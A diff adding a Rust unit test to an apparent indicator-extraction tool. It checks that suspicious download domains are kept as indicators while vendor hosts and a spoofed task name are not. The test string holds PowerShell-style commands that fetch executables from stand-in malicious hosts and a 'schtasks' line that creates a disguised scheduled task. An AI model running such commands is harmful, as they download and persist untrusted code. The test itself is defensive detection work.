@@ -127,6 +127,25 @@ fn what_a_script_does_to_windows_is_no_sign_of_it_and_what_it_makes_is() {
 }
 
 #[test]
+fn an_address_and_its_host_count_once_and_vendors_are_nobodys() {
+    let text = "iwr https://www.7-zip.org/a/7z2301-x64.msi -OutFile z.msi; iwr http://cdn.qvortex.example.invalid/a.exe -OutFile a.exe; \
+                iwr https://www.zip.org/a/b.msi; iwr http://t.zz3r0.top/a; \
+                schtasks /create /tn GoogleUpdateTaskMachineUA /tr a.exe";
+    let learned = learned(text, &[]);
+    let list = &learned.family.indicators;
+    for (kind, part, kept) in [
+        (Kind::Domain, "cdn.qvortex.example.invalid", true),
+        (Kind::Url, "qvortex", false),
+        (Kind::Domain, "t.zz3r0.top", true),
+        (Kind::Domain, "zip.org", false),
+        (Kind::Url, "zip.org", false),
+        (Kind::TaskName, "GoogleUpdate", false),
+    ] {
+        assert_eq!(has(&learned, kind, part), kept, "{kind:?} {part}: {list:#?}");
+    }
+}
+
+#[test]
 fn pieces_of_text_alone_are_never_certain() {
     let lines: Vec<_> =
         (0..30).map(|n| format!("$qvortexpart{n} = 'zanthorum wibblefrotz number {n}'")).collect();
